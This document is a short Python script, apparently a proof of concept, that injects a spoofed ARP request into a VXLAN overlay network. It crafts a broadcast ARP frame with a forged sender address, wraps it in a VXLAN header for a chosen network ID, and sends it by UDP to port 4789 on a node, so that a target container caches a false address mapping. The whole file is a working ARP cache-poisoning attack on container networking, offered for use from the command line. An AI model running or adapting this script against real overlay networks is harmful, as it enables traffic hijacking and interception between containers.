# SPDX-License-Identifier: GPL-3.0-or-later
"""Sends a node a question (ARP) for a container, as if it came from another container of the overlay network.

inject.py ADDRESS-OF-NODE VXLAN-ID ADDRESS-OF-CONTAINER ADDRESS-OF-NOBODY

A container that gets it remembers the address of nobody.
"""

from __future__ import annotations

import socket
import struct
import sys

PORT = 4789
MAC = bytes.fromhex("02420a0b0c0d")


def question(asked, asking):
    """An Ethernet frame to everybody: who has the address that is asked for?"""
    arp = (
        struct.pack("!HHBBH", 1, 0x0800, 6, 4, 1) + MAC + socket.inet_aton(asking) + bytes(6) + socket.inet_aton(asked)
    )
    return b"\xff" * 6 + MAC + b"\x08\x06" + arp


if __name__ == "__main__":
    node, vni, container, nobody = sys.argv[1:]
    header = struct.pack("!II", 0x08000000, int(vni) << 8)
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sent:
        sent.sendto(header + question(container, nobody), (node, PORT))
